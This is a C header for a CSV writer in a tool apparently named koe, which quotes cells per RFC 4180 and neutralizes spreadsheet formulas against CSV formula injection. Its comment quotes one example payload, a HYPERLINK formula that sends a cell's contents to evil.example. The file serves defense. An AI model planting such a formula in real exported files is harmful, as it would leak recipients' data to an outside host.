/* koe — the one CSV writer behind every CSV file koe writes (links.csv,
 * the reminder lists, the line 'koe reissue' prints, the demo's rosters).
 *
 * Cells are written as RFC 4180 says: a cell holding a comma, a double
 * quote, CR or LF is put in double quotes, with each double quote doubled.
 *
 * HR opens these files in Excel, where a cell that starts with '=', '+',
 * '-' or '@' is a formula, and a leading tab or carriage return can hide
 * one: a roster value such as =HYPERLINK("https://evil.example/?"&D3,"x")
 * would send a colleague's data away when the file is opened (CSV formula
 * injection). As OWASP advises, such a cell is written with a single quote
 * before it ('=HYPERLINK(...)), so spreadsheets show it as text. The quote
 * is part of the cell: a program reading the file sees it too. A value that
 * starts with a single quote already is left as it is, so a cell read back
 * from a file koe wrote comes out unchanged. */
#ifndef KOE_CSV_H
#define KOE_CSV_H

#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>

/* Whether a spreadsheet could take a cell starting with s for a formula:
 * its first byte is '=', '+', '-', '@', tab or carriage return. */
bool csv_cell_is_formula(const char *s);

/* Writes one cell: neutralized (a leading ') when csv_cell_is_formula(),
 * then quoted when needed. Errors are left in f's error indicator. */
void csv_cell(FILE *f, const char *s);

/* Writes the n cells of one record, separated by commas, then eol ("\r\n"
 * for the files, "\n" on a terminal). */
void csv_row(FILE *f, const char *const *cells, size_t n, const char *eol);

#endif
